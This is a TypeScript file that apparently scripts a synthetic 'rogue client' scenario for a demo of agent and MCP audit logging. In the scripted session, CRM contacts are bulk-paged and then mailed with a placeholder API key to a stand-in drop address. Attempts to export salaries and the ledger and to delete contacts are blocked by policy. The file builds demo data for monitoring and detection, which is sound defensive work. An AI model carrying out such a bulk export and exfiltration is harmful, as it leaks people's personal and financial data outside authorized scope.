import { clients, descriptorOf, digestOf, emitters, people, tools } from "../cast.ts";
import type { StoryTool } from "../cast.ts";
import type { StoryWriter } from "../story-writer.ts";
import { CONTACT_URI } from "./contact-scene.ts";

const SESSION = "demo-rogue-1";
const rogue = { actor: people.bob, client: clients.rogue, session: SESSION } as const;

/** A client that nobody has seen reads all there is, sends it away, and tries for more. */
export function tellRogue({ call, fact }: StoryWriter): void {
  fact({
    before: 248,
    type: "auth.failed",
    emitter: emitters.gateway,
    vantage: "gateway",
    actor: { type: "unknown", assurance: "none" },
    client: clients.rogue,
    server: { name: "crm" },
    outcome: { status: "denied", executed: false },
    error: { kind: "auth", code: "401", message: "the token was revoked" },
    http: { status: 401, method: "POST", path: "/mcp" },
  });
  fact({
    before: 241,
    type: "client.connected",
    emitter: emitters.crm,
    actor: people.bob,
    client: clients.rogue,
    session: { id: SESSION },
    server: { name: "crm", version: "2.3.0" },
    transport: { type: "streamable_http", protocol_version: "2026-07-28", era: "modern" },
  });
  const listed = Object.values(tools).filter(({ server }) => server === "crm");
  fact({
    before: 240,
    type: "tools.listed",
    emitter: emitters.crm,
    actor: people.bob,
    client: clients.rogue,
    session: { id: SESSION },
    server: { name: "crm", version: "2.3.0" },
    method: "tools/list",
    catalogue: {
      sha256: digestOf("demo catalogue of crm"),
      count: listed.length,
      tools: listed.map(({ name }) => ({ name, sha256: descriptorOf(name) })),
    },
  });
  for (let page = 0; page < 6; page++)
    call({
      ...rogue,
      before: 236 - page * 3,
      duration: 900 + page * 130,
      tool: tools.exportContacts,
      params: { after: page * 700, limit: 700 },
      result: { item_count: page === 5 ? 620 : 700, bytes: 251_000 - page * 900 },
      downstream: [{ system: "crm", resource: "contacts", operation: "list" }],
      ...(page === 0 && { intent: "sync the address book" }),
    });
  for (const [index, id] of [42, 3, 14, 27, 33, 58, 71, 90, 112, 130].entries())
    call({
      ...rogue,
      before: 214 - index * 1.4,
      tool: tools.readContact,
      params: { id },
      result: { item_count: 1, bytes: 380 },
      downstream: [{ system: "crm", resource: `contact/${id}`, operation: "read" }],
    });
  call({
    ...rogue,
    before: 196,
    duration: 420,
    tool: tools.sendMail,
    params: {
      to: "drop@collect-sync.example",
      subject: "contacts",
      body: "4,120 contacts with phone numbers and credit limits",
      api_key: "sk_live_51HxTq0demo0demo0demo0demo",
    },
    downstream: [{ system: "smtp", resource: "mail/drop@collect-sync.example", operation: "send" }],
  });
  const stopped: [number, StoryTool, string, string, string, string][] = [
    [
      188,
      tools.exportSalaries,
      "hr://salaries",
      "bulk-export",
      "no-people-data",
      "salaries leave HR through payroll only",
    ],
    [
      184,
      tools.exportSalaries,
      "hr://salaries",
      "bulk-export",
      "no-people-data",
      "salaries leave HR through payroll only",
    ],
    [
      179,
      tools.exportLedger,
      "billing://ledger",
      "bulk-export",
      "needs-finance",
      "exports of the ledger take the group finance",
    ],
    [
      172,
      tools.deleteContact,
      CONTACT_URI,
      "destructive-freeze",
      "no-agent-deletes",
      "agents delete no contacts this quarter",
    ],
    [
      170,
      tools.deleteContact,
      CONTACT_URI,
      "destructive-freeze",
      "no-agent-deletes",
      "agents delete no contacts this quarter",
    ],
  ];
  for (const [before, tool, resource, id, rule, reason] of stopped)
    call({
      ...rogue,
      before,
      duration: 6,
      tool,
      params: tool === tools.deleteContact ? { id: 42 } : { format: "csv", all: true },
      outcome: "denied",
      resource,
      policy: {
        decision: "deny",
        enforced: true,
        checks: [
          { id, rule_id: rule, engine: "demo", stage: "before_call", decision: "deny", reason },
        ],
      },
      error: { kind: "auth", code: "policy_denied", message: reason },
    });
  fact({
    before: 166,
    type: "auth.scope_challenged",
    emitter: emitters.gateway,
    vantage: "gateway",
    actor: people.bob,
    client: clients.rogue,
    session: { id: SESSION },
    server: { name: "hr" },
    outcome: { status: "denied", executed: false },
    http: {
      status: 403,
      www_authenticate: 'Bearer error="insufficient_scope", scope="people:read"',
    },
  });
  fact({
    before: 160,
    type: "client.disconnected",
    emitter: emitters.crm,
    actor: people.bob,
    client: clients.rogue,
    session: { id: SESSION },
    server: { name: "crm", version: "2.3.0" },
  });
}
